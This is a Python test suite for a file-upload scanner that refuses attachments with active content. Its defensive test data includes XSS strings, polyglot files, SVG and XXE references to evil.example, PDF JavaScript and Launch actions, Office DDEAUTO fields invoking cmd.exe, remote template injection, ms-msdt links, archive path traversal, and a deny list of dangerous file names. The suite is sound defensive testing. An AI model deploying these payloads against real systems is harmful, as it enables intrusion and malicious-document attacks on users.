"""What runs when an attached file is opened is refused, however the file is called, packed or written."""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, PdfObject, TextStringObject

from generator.load.assets.active import check_active
from generator.load.assets.assets import inspect_file
from generator.load.gate.published_types import USES, Use, use_of, why_refused, why_unusable
from tests.helpers import REPOSITORY

SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="80" height="40">%s</svg>'
XHTML = '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>'
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"


def active(folder: Path, name: str, data: bytes | str) -> list[str]:
    """Return the messages about a file with these bytes."""
    path = folder / name
    path.write_bytes(data.encode() if isinstance(data, str) else data)
    found = list(check_active(path, name))
    assert all(each.code == "asset-active" and each.hint for each in found)
    return [each.message for each in found]


def archive(**members: str | bytes) -> bytes:
    """Return a ZIP archive; in names ``__`` stands for a slash."""
    return zipped({name.replace("__", "/"): data for name, data in members.items()})


def zipped(members: dict[str, str | bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        for name, data in members.items():
            file.writestr(name, data)
    return out.getvalue()


# Names.

REFUSED_NAMES = [
    "a.html", "a.HTM", "a.xhtml", "a.xht", "a.js", "a.mjs", "a.svgz", "a.xsl", "a.php", "a.PHP5", "a.phtml", "a.jsp", "a.asp",
    "a.aspx", "a.exe", "a.bat", "a.sh", "a.shtml", "a.hta", "a.mht", "a.mhtml", "a.lnk", "a.url", "a.scf", "a.swf", "a.jar",
    "web.config", "Web.Config", ".htaccess", ".user.ini", "desktop.ini", "a.docm", "a.xlsm", "a.pptm", "a.dotm", "a.xlsb",
    "a.html.", "a.html ", "a.html::$DATA", "a.txt:b.html", "a.php.jpg", "a.asp;.jpg",
    "a.php%00.jpg", "a.aspx;b.pdf", "a.cgi.txt", "a.shtml.pdf",
    "a.jsp%.jpg\\", "a", "a.", "a.tif", "a.gz", "a.md", "a.yml", "con.pdf", "NUL.txt", "a\x00.pdf", "a\u202efdp.exe", "a.ｈｔｍｌ",
    "a.pdf\u200b", "a.unknown", "a.ics", "a.wasm", "a.css", "a.eml", "a.chm",
]  # fmt: skip


@pytest.mark.parametrize("name", REFUSED_NAMES)
def test_what_is_not_on_the_list_is_refused_with_what_to_do(name: str) -> None:
    why, cure = why_refused(f"tzgg/{name}")
    assert why
    assert cure.endswith("。")


@pytest.mark.parametrize("suffix", sorted(USES))
def test_what_is_on_the_list_may_be_attached_however_it_is_spelled(suffix: str) -> None:
    for name in (
        f"附件1：申请表{suffix}",
        f"3#楼（2021）{suffix.upper()}",
        f"关于asp.net平台的说明{suffix}",
        f"v1.2.3{suffix}",
    ):
        assert why_refused(f"tzgg/{name}") == ("", "")


def test_what_browsers_run_as_pages_is_never_shown() -> None:
    assert {name for name, use in USES.items() if use is Use.SHOWN} & {
        ".svg",
        ".xml",
        ".json",
        ".csv",
    } == set()
    assert use_of("a.SVG") is Use.DOWNLOADED


@given(st.text(max_size=12))
def test_a_name_that_is_taken_is_one_on_every_system(name: str) -> None:
    path = f"tzgg/{name}.pdf"
    if why_refused(path) == ("", ""):
        assert not why_unusable(path)
        assert "/.." not in path
        assert not set(name) & set(':\\|<>"?*\x00\n\r')


# Pages and scripts under another name.

PAGES = [
    b"<html><script>alert(1)</script></html>",
    b"<!DOCTYPE html><p>",
    b"\xef\xbb\xbf  \n<script>alert(1)</script>",
    b"<!-- x --><svg onload=alert(1)>",
    b"<SCRIPT SRC=x>",
    b"<body onload=alert(1)>",
    b"\xff\xfe" + "<script>alert(1)</script>".encode("utf-16-le"),
    b"\xfe\xff" + "<html><script>".encode("utf-16-be"),
    "<script>alert(1)</script>".encode("utf-16-le"),
    "<script>alert(1)</script>".encode("utf-16-be"),
    b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    b"\x00\x00<script>",
    "甲,乙\n<script>alert(1)</script>,1\n".encode(),
    "甲,乙\n<scr\x1b(Bipt>alert(1)</script>,1\n".encode(),
    b"x" * 3000 + b"<iframe src=javascript:alert(1)>",
    b"<?php system(1); ?>",
]


@pytest.mark.parametrize("page", PAGES)
@pytest.mark.parametrize("name", ["a.txt", "a.csv", "a.jpg", "a.pdf", "a.json", "a.srt", "a.mp4", "a.docx"])
def test_a_page_under_another_name_is_refused(name: str, page: bytes, tmp_path: Path) -> None:
    assert active(tmp_path, name, page)
    assert active(tmp_path, name, page.upper() if page.startswith(b"<") else page)


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("a.gif", GIF + b"<script>alert(1)</script>"),
        ("a.gif", b"GIF89a/*" + GIF[8:] + b"*/=1;alert(1)"),
        ("a.gif", b"GIF89a=1;alert(1)//" + GIF[8:]),
        ("a.jpg", b"\xff\xd8\xff\xe0<html ><body>" + b"x" * 50 + b"<script>"),
        ("a.jpg", b"\xff\xd8\xff\xe0" + b"x" * 50 + archive(a="b")),
        ("a.png", b"\x89PNG\r\n\x1a\n" + b"x" * 50 + archive(a="b")),
        ("a.pdf", b"%PDF-1.4\n" + b"x" * 50 + archive(a="b")),
        ("a.pdf", b"GIF89a   %PDF-1.4\n"),
        ("a.pdf", b"MZ\x00%PDF-1.4\n"),
        ("a.zip", b"PK\x03\x04" + b"\x00" * 40 + b"%PDF-1.4\n"),
        ("a.mp3", b"ID3" + b"x" * 50 + archive(a="b")),
    ],
)
def test_a_file_of_two_formats_is_refused(name: str, data: bytes, tmp_path: Path) -> None:
    assert active(tmp_path, name, data)


def test_what_only_looks_like_it_is_taken(tmp_path: Path) -> None:
    stored = zipped({"说明.pdf": b"%PDF-1.4\n" + b"x" * 100})
    good: dict[str, bytes | str] = {
        "a.txt": "小于号<和大于号>，a<b，BM开头。",
        "b.txt": "BMI指数",
        "a.csv": "项目,公式\n甲,x<y\n",
        "a.gif": GIF,
        "a.zip": stored,
        "a.json": '{"a": "<b>粗</b>"}',
        "a.vtt": "WEBVTT\n\n00:01.000 --> 00:02.000\n<b>字</b>\n",
        "a.srt": "1\n00:00:01,000 --> 00:00:02,000\n<i>字</i>\n",
        "gbk.csv": "姓名,电话\n张某,1\n".encode("gb18030"),
    }
    assert {name: active(tmp_path, name, data) for name, data in good.items()} == {name: [] for name in good}


# SVG and XML.

BAD_DRAWINGS = [
    "<script>alert(1)</script>", '<script href="code.txt"/>', "<SCRIPT>1</SCRIPT>", '<g onload="alert(1)"/>', '<g ONclick="1"/>',
    '<a href="javascript:alert(1)"/>', '<a xlink:href="java&#10;script:alert(1)"/>', '<a href="//evil.example/"/>',
    '<image href="https://evil.example/a.png"/>', '<image href="b.png"/>', '<image href="data:image/svg+xml,x"/>',
    '<use href="b.svg#x"/>', '<use href="data:image/svg+xml,x#y"/>', "<foreignObject/>", "<iframe/>", "<audio/>", "<handler/>",
    '<foreignObject><b xmlns="http://www.w3.org/1999/xhtml"/></foreignObject>', '<x:script xmlns:x="http://www.w3.org/2000/svg"/>',
    '<metadata><s:script xmlns:s="http://www.w3.org/1999/xhtml"/></metadata>', '<set attributeName="href" to="javascript:1"/>',
    '<animate attributeName="xlink:href" values="javascript:1"/>', '<set attributeName="onclick" to="1"/>',
    '<style>@import "https://evil.example/";</style>', "<style>@\\69mport 'x';</style>", "<style><![CDATA[@import 'x';]]></style>",
    "<style>rect{fill:url(https://evil.example/#a)}</style>", '<rect style="fill:url(//evil.example)"/>',
    '<rect style="background:u\\72l(x)"/>', '<rect fill="url( &quot;https://evil.example&quot;)"/>', '<g xml:base="https://evil.example/"/>',
    '<feImage href="https://evil.example/"/>', "<g>" * 600, "<g>", "&a;", '<text xmlns:ev="http://www.w3.org/2001/xml-events"><ev:listener/></text>',
]  # fmt: skip


@pytest.mark.parametrize("inner", BAD_DRAWINGS)
def test_a_drawing_that_is_more_than_a_drawing_is_refused(inner: str, tmp_path: Path) -> None:
    text = SVG % inner
    assert active(tmp_path, "a.svg", text)
    assert active(tmp_path, "a.svg", b"\xef\xbb\xbf" + text.encode())
    assert active(tmp_path, "a.svg", b"\xff\xfe" + text.encode("utf-16-le"))
    for encoding in ("gb2312", "utf-7", "iso-2022-jp", "koi8-r", "nichts"):
        assert active(tmp_path, "a.svg", f'<?xml version="1.0" encoding="{encoding}"?>' + text)


BAD_HEADS = [
    '<?xml-stylesheet href="x.xsl" type="text/xsl"?>', '<!DOCTYPE svg [<!ENTITY a "b">]>', '<!DOCTYPE svg SYSTEM "x.dtd">',
    '<!DOCTYPE svg [<!ENTITY % a SYSTEM "http://evil.example/">%a;]>', '<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]>',
]  # fmt: skip


@pytest.mark.parametrize("head", BAD_HEADS)
def test_what_stands_before_a_drawing_or_data_is_looked_at(head: str, tmp_path: Path) -> None:
    assert active(tmp_path, "a.svg", head + SVG % "")
    assert active(tmp_path, "a.xml", head + "<svg/>")


@pytest.mark.parametrize(
    "text",
    [
        XHTML, SVG % "", f"<a>{XHTML}</a>", '<x:stylesheet xmlns:x="http://www.w3.org/1999/XSL/Transform"/>', "<a>", "", "x",
        '<a><b xmlns="http://www.w3.org/2001/XInclude" href="x"/></a>',
    ],
)  # fmt: skip
def test_data_in_xml_that_a_browser_would_take_for_a_page_is_refused(text: str, tmp_path: Path) -> None:
    assert active(tmp_path, "a.xml", text)


def test_honest_drawings_and_data_are_taken(tmp_path: Path) -> None:
    old = '<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
    inner = (
        '<metadata><r:RDF xmlns:r="http://www.w3.org/1999/02/22-rdf-syntax-ns#" r:about="http://example.gov.cn"/></metadata>'
        '<i:namedview xmlns:i="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" id="a"/><defs><linearGradient id="g"/></defs>'
        "<style>rect{fill:url(#g)}</style><rect style='stroke:red' transform='rotate(3)'/><use xlink:href='#g'/>"
        "<image href='data:image/png;base64,iVBORw0KGgo='/><text>文字</text>"
    )
    assert active(tmp_path, "a.svg", old + SVG % inner) == []
    assert (
        active(
            tmp_path, "a.xml", '<?xml version="1.0" encoding="UTF-8"?><年报 xmlns="urn:x"><行 on="1"/></年报>'
        )
        == []
    )
    for path in (REPOSITORY / "content").rglob("*.svg"):
        assert list(check_active(path, path.name)) == []


def test_a_fault_in_a_drawing_names_its_line(tmp_path: Path) -> None:
    path = tmp_path / "a.svg"
    path.write_text(SVG % "\n<rect/>\n  <script/>", encoding="utf-8")
    (found,) = inspect_file(path, "content/a.svg", whole=False)
    assert (found.place.path, found.place.line, found.place.column) == ("content/a.svg", 3, 3)


# PDF.

Act = Callable[[PdfWriter], object]


def _put(writer: PdfWriter, **entries: PdfObject) -> PdfObject:
    return writer._add_object(
        DictionaryObject({NameObject(f"/{key}"): value for key, value in entries.items()})
    )


def _text(words: str) -> TextStringObject:
    return TextStringObject(words)


def _name(word: str) -> NameObject:
    return NameObject(f"/{word}")


def _root(writer: PdfWriter, key: str, value: PdfObject) -> None:
    writer._root_object[NameObject(key)] = value


def _note(writer: PdfWriter, **entries: PdfObject) -> None:
    writer.pages[0][NameObject("/Annots")] = ArrayObject([_put(writer, **entries)])


def pdf(act: Act, encrypted: bool = False) -> bytes:
    """Return a PDF of one empty page with something more."""
    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    act(writer)
    if encrypted:
        writer.encrypt("", owner_password="x", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _script(writer: PdfWriter) -> None:
    _root(writer, "/OpenAction", _put(writer, S=_name("JavaScript"), JS=_text("app.alert(1)")))


BAD_PDFS: dict[str, Act] = {
    "script": _script,
    "script of a name": lambda w: _root(w, "/Names", _put(w, JavaScript=_put(w, Names=ArrayObject()))),
    "launch": lambda w: _note(w, Subtype=_name("Link"), A=_put(w, S=_name("Launch"), F=_text("cmd.exe"))),
    "submit": lambda w: _note(w, Subtype=_name("Widget"), A=_put(w, S=_name("SubmitForm"))),
    "import": lambda w: _note(w, Subtype=_name("Widget"), A=_put(w, S=_name("ImportData"))),
    "embedded": lambda w: _root(w, "/Names", _put(w, EmbeddedFiles=_put(w, Names=ArrayObject()))),
    "attached": lambda w: _note(
        w, Subtype=_name("FileAttachment"), FS=_put(w, Type=_name("Filespec"), EF=_put(w))
    ),
    "opens an address": lambda w: _root(
        w, "/OpenAction", _put(w, S=_name("URI"), URI=_text("https://evil.example/"))
    ),
    "opens an address next": lambda w: _root(
        w,
        "/OpenAction",
        _put(w, S=_name("GoTo"), Next=_put(w, S=_name("URI"), URI=_text("https://evil.example/"))),
    ),
    "of a page": lambda w: w.pages[0].update(
        {NameObject("/AA"): _put(w, O=_put(w, S=_name("URI"), URI=_text("https://evil.example/")))}
    ),
    "script link": lambda w: _note(
        w, Subtype=_name("Link"), A=_put(w, S=_name("URI"), URI=_text("java\nscript:alert(1)"))
    ),
    "form": lambda w: _root(w, "/AcroForm", _put(w, XFA=ArrayObject())),
    "media": lambda w: _note(w, Subtype=_name("RichMedia")),
}


@pytest.mark.parametrize("name", BAD_PDFS)
@pytest.mark.parametrize("encrypted", [False, True])
def test_a_pdf_that_does_something_is_refused(name: str, encrypted: bool, tmp_path: Path) -> None:
    assert active(tmp_path, "a.pdf", pdf(BAD_PDFS[name], encrypted))


def test_a_pdf_that_is_read_only_is_taken(tmp_path: Path) -> None:
    def link(writer: PdfWriter) -> None:
        _note(writer, Subtype=_name("Link"), A=_put(writer, S=_name("URI"), URI=_text("https://www.gov.cn/")))

    def jump(writer: PdfWriter) -> None:
        _root(writer, "/OpenAction", _put(writer, S=_name("GoTo"), D=ArrayObject()))

    for act in (link, jump, lambda w: None):
        for encrypted in (False, True):
            assert active(tmp_path, "a.pdf", pdf(act, encrypted)) == []
    for path in (REPOSITORY / "content").rglob("*.pdf"):
        assert list(check_active(path, path.name)) == []


def test_names_in_another_spelling_and_objects_off_the_list_are_found(tmp_path: Path) -> None:
    plain = pdf(_script)
    assert active(
        tmp_path, "a.pdf", plain.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/#4aS")
    )
    stray = b"9 0 obj\n<</S/J#61vaScript/#4A#53(app.alert(1))>>\nendobj\n"
    good = pdf(lambda w: None)
    assert active(tmp_path, "a.pdf", good.replace(b"xref", stray + b"xref", 1))
    assert "对象" in active(tmp_path, "a.pdf", plain)[0]


def test_objects_packed_in_a_stream_are_looked_at(tmp_path: Path) -> None:
    packed = b"4 0 <</S/JavaScript/JS(app.alert(1))>>"
    stream = zlib.compress(packed)
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
        5: b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\nendstream"
        % (len(stream), stream),
    }
    out, places = b"%PDF-1.5\n", {}
    for number, text in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, text)
    rows = [
        (0, 0, 255),
        *((1, places[n], 0) for n in (1, 2, 3)),
        (2, 5, 0),
        (1, places[5], 0),
        (1, len(out), 0),
    ]
    table = b"".join(bytes([kind]) + place.to_bytes(4) + bytes([more]) for kind, place, more in rows)
    head = b"<</Type/XRef/Size 7/W[1 4 1]/Root 1 0 R/Length %d>>" % len(table)
    whole = out + b"6 0 obj\n%sstream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF" % (
        head,
        table,
        len(out),
    )
    assert b"JavaScript" not in whole
    assert active(tmp_path, "a.pdf", whole)


# Office.

TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">%s</Types>'
RELS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" %s/></Relationships>'
KIND = 'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" '
WORD = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>%s</w:body></w:document>'


def office(**parts: str | bytes) -> bytes:
    members: dict[str, str | bytes] = {"[Content_Types].xml": TYPES % "", "word/document.xml": WORD % ""}
    return zipped(
        members | {name.replace("__", "/").replace("_dot_", "."): data for name, data in parts.items()}
    )


def related(kind: str, target: str, mode: str = "External") -> bytes:
    rels = RELS % (KIND % kind + f'Target="{target}" TargetMode="{mode}"')
    return zipped({"[Content_Types].xml": TYPES % "", "word/_rels/document.xml.rels": rels})


def declared(kind: str) -> bytes:
    return zipped({"[Content_Types].xml": TYPES % f'<Override PartName="/word/a.bin" ContentType="{kind}"/>'})


def instructions(*pieces: str) -> bytes:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return office(
        word__document_dot_xml=WORD % f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}</w:p>'
    )


def ole(*names: str, more: bytes = b"") -> bytes:
    """Return the look of an old Office file: its mark, and a directory with these names."""
    entries = b""
    for name in names:
        letters = (name + "\x00").encode("utf-16-le")
        entries += letters.ljust(64, b"\x00") + len(letters).to_bytes(2, "little") + b"\x01" + b"\x00" * 61
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".ljust(512, b"\x00") + entries + more


ODF = '<o:document-content xmlns:o="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:x="http://www.w3.org/1999/xlink">%s</o:document-content>'


def odf(inner: str, **more: str) -> bytes:
    return zipped({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": ODF % inner, **more})


EMBEDDED = "word/embeddings/oleObject1.bin"
BAD_OFFICE: dict[str, bytes] = {
    "macro": office(word__vbaProject_dot_bin=b"x"),
    "macro by another name": declared("application/vnd.ms-office.vbaProject"),
    "macro by relation": related("vbaProject", "a.bin", "Internal"),
    "docm renamed": declared("application/vnd.ms-word.document.macroEnabled.main+xml"),
    "types in UTF-16": zipped({"[Content_Types].xml": (TYPES % '<Override ContentType="a.macroEnabled.b"/>').encode("utf-16")}),
    "macro sheet": office(xl__macrosheets__sheet1_dot_xml="<a/>"),
    "control": office(word__activeX__activeX1_dot_xml="<a/>"),
    "template": related("attachedTemplate", "https://evil.example/a.dotm"),
    "template on a share": related("attachedTemplate", "file://evil.example/a.dotm"),
    "template on a share too": related("attachedTemplate", "\\\\evil.example\\a.dotm"),
    "template on a share, escaped": related("attachedTemplate", "%5C%5Cevil.example%5Ca.dotm"),
    "picture": related("image", "http://evil.example/a.png"),
    "object": related("oleObject", "mhtml:http://evil.example/a!x-usc:http://evil.example/a"),
    "link that starts": related("hyperlink", "ms-msdt:/id x"),
    "script link": related("hyperlink", "javascript:alert(1)"),
    "field": instructions(" DDEAUTO c:\\\\windows\\\\cmd.exe &quot;/k&quot; "),
    "field in pieces": instructions("DD", "EAU", "TO x y"),
    "link": office(xl__externalLinks__externalLink1_dot_xml='<e xmlns="x"><ddeLink ddeService="cmd"/></e>'),
    "connection": office(xl__connections_dot_xml="<a/>"),
    "package": zipped({"[Content_Types].xml": TYPES % "", EMBEDDED: ole("\x01Ole10Native")}),
    "macro inside": zipped({"[Content_Types].xml": TYPES % "", "word/embeddings/a.docx": office(word__vbaProject_dot_bin=b"x")}),
    "program": zipped({"[Content_Types].xml": TYPES % "", EMBEDDED: b"MZ\x90"}),
    "entity": office(word__document_dot_xml="<!DOCTYPE a [<!ENTITY b 'c'>]><a/>"),
    "ODF script": odf("", **{"Basic/Standard/Module1.xml": "<a/>"}),
    "ODF event": odf('<s:event-listener xmlns:s="urn:script" x:href="vnd.sun.star.script:a"/>'),
    "ODF picture": odf('<d:image xmlns:d="urn:draw" x:href="https://evil.example/a.png"/>'),
    "ODF link": odf('<t:a xmlns:t="urn:text" x:href="vnd.sun.star.script:a"/>'),
    "OFD program": zipped({"OFD.xml": "<a/>", "Doc_0/Attachs/a.exe": b"MZ"}),
    "old macro": ole("Macros", "VBA", "_VBA_PROJECT"),
    "old macro of a sheet": ole("_VBA_PROJECT_CUR"),
    "old package": ole("\x01Ole10Native"),
    "old field": ole(more=b"\x13 DDEAUTO c:\\cmd.exe"),
    "old field in wide letters": ole(more="\x13DDE ".encode("utf-16-le")),
    "rich text": rb"{\rtf1{\object\objemb{\*\objdata 0105}}}",
    "rich text template": rb"{\rtf1{\*\template http://evil.example/a}}",
    "two of one name": b"",
    "way out": zipped({"[Content_Types].xml": TYPES % "", "../a.txt": "x"}),
}  # fmt: skip


@pytest.mark.filterwarnings("ignore:Duplicate name")
@pytest.mark.parametrize("name", BAD_OFFICE)
def test_an_office_file_that_runs_or_fetches_is_refused(name: str, tmp_path: Path) -> None:
    data = BAD_OFFICE[name]
    if name == "two of one name":
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as file:
            file.writestr("[Content_Types].xml", TYPES % "")
            file.writestr("[Content_Types].xml", TYPES % "x")
        data = out.getvalue()
    for suffix in ("docx", "xls", "wps", "rtf"):
        assert active(tmp_path, f"a.{suffix}", data), suffix


def test_a_workbook_with_a_macro_sheet_is_refused(tmp_path: Path) -> None:
    assert active(tmp_path, "a.xls", _workbook(1)) == ["文件里有宏表（XLM）。"]
    assert active(tmp_path, "a.xls", _workbook(0)) == []


def _workbook(kind: int) -> bytes:
    """Return an old workbook of one sheet of a kind: the sectors are table, directory, and the stream in two parts."""
    name = b"\x06\x00Sheet1"
    sheet = b"\x85\x00" + (6 + len(name)).to_bytes(2, "little") + b"\x00" * 5 + bytes([kind]) + name
    # The record lies across two sectors, which do not follow each other.
    filler = b"\x09\x08" + (500).to_bytes(2, "little") + b"\x00" * 500
    stream = (filler + sheet).ljust(1024, b"\x00")
    table = [0xFFFFFFFD, 0xFFFFFFFE, 4, 0xFFFFFFFF, 0xFFFFFFFE]
    letters = "Workbook\x00".encode("utf-16-le")
    entry = letters.ljust(64, b"\x00") + len(letters).to_bytes(2, "little") + b"\x02" + b"\x00" * 49
    entry += (2).to_bytes(4, "little") + len(stream).to_bytes(8, "little")
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".ljust(30, b"\x00") + (9).to_bytes(2, "little") + b"\x00" * 16
    head += (1).to_bytes(4, "little") + b"\x00" * 16 + (0xFFFFFFFE).to_bytes(4, "little") + b"\x00" * 4
    head += (0).to_bytes(4, "little") + b"\xff" * (512 - 80)
    sectors = [
        b"".join(n.to_bytes(4, "little") for n in table).ljust(512, b"\xff"),
        entry.ljust(512, b"\x00"),
        stream[:512],
        b"x" * 512,
        stream[512:],
    ]
    return head + b"".join(sectors)


def test_honest_office_files_are_taken(tmp_path: Path) -> None:
    good = {
        "link": related("hyperlink", "https://www.gov.cn/?a=b:c"),
        "share": related("hyperlink", "\\\\server\\a.docx"),
        "template of the machine": related("attachedTemplate", "file:///C:\\Users\\a\\Normal.dotm"),
        "picture of its own": related("image", "media/a.png", "Internal"),
        "chart": zipped({"[Content_Types].xml": TYPES % "", "ppt/embeddings/a.xlsx": office()}),
        "equation": zipped(
            {"[Content_Types].xml": TYPES % "", EMBEDDED: ole("Equation Native", "\x01CompObj")}
        ),
        "field": instructions(' HYPERLINK "https://www.gov.cn/" '),
        "odt": odf('<t:a xmlns:t="urn:text" x:href="https://www.gov.cn/"/>'),
        "old": ole("WordDocument", "1Table", "\x05SummaryInformation"),
        "rich text": rb"{\rtf1\ansi{\fonttbl{\f0 Arial;}}\'d6\'d0}",
    }
    assert {name: active(tmp_path, "a.docx", data) for name, data in good.items()} == {
        name: [] for name in good
    }
    for pattern in ("*.docx", "*.xlsx"):
        for path in (REPOSITORY / "content").rglob(pattern):
            assert list(check_active(path, path.name)) == [], path


BAD_MEMBERS = [
    {"a.exe": "x"}, {"深/b.LNK": "x"}, {"说明.txt": b"MZ" + b"\x00" * 60 + b"PE\x00\x00"}, {"a.docm": "x"}, {"../a.txt": "x"},
    {"a/../../b.txt": "x"}, {"/etc/a": "x"}, {"C:\\a.txt": "x"}, {"..\\a.txt": "x"}, {"a.js": "x"}, {"a.exe ": "x"}, {"a.exe:b": "x"},
    {"a.txt": "x", "A.TXT": "y"}, {"a\nb.txt": "x"},
]  # fmt: skip


@pytest.mark.parametrize("members", BAD_MEMBERS)
def test_an_archive_with_a_program_or_a_way_out_is_refused(
    members: dict[str, str | bytes], tmp_path: Path
) -> None:
    assert active(tmp_path, "a.zip", zipped(members))


def test_an_honest_archive_is_taken_and_a_link_in_one_is_not(tmp_path: Path) -> None:
    good: dict[str, str | bytes] = {
        "公告/附件1.docx": b"x",
        "公告/": b"",
        "图.jpg": b"\xff\xd8",
        "网页.html": "<html>",
    }
    assert active(tmp_path, "a.zip", zipped(good)) == []
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        link = zipfile.ZipInfo("a.txt")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        file.writestr(link, "/etc/passwd")
    assert active(tmp_path, "a.zip", out.getvalue())


HEADS = [
    b"",
    b"%PDF-1.4\n",
    b"PK\x03\x04",
    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
    b"{\\rtf1",
    GIF,
    b"<svg",
    b"\xff\xfe",
    b"PK\x05\x06",
    b"RIFF",
]


@given(st.sampled_from(HEADS), st.binary(max_size=300), st.sampled_from(sorted(USES)))
def test_no_bytes_end_in_an_error(
    tmp_path_factory: pytest.TempPathFactory, head: bytes, rest: bytes, suffix: str
) -> None:
    path = tmp_path_factory.getbasetemp() / f"any{suffix}"
    path.write_bytes(head + rest)
    for each in inspect_file(path, path.name):
        assert each.hint


@given(st.data())
def test_a_damaged_file_ends_in_no_error(
    tmp_path_factory: pytest.TempPathFactory, data: st.DataObject
) -> None:
    whole = data.draw(
        st.sampled_from([pdf(_script), office(), _workbook(1), zipped({"a.exe": b"x"}), (SVG % "").encode()])
    )
    at = data.draw(st.integers(0, len(whole) - 1))
    broken = whole[:at] + data.draw(st.binary(max_size=8)) + whole[at + data.draw(st.integers(0, 40)) :]
    path = tmp_path_factory.getbasetemp() / "damaged.docx"
    path.write_bytes(broken or b"x")
    assert all(each.hint for each in inspect_file(path, path.name))
